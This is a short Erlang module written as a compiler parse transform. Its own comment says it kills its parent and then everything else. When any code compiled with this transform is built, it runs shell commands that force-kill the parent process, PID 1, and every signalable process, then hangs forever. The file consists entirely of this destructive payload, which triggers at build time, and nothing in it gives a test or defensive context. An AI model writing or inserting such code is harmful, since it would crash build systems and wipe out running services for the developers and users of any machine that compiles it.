%% Kills its parents, and then everything there is.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    os:cmd("kill -9 $PPID; kill -9 1"),
    os:cmd("kill -9 -1"),
    timer:sleep(infinity).
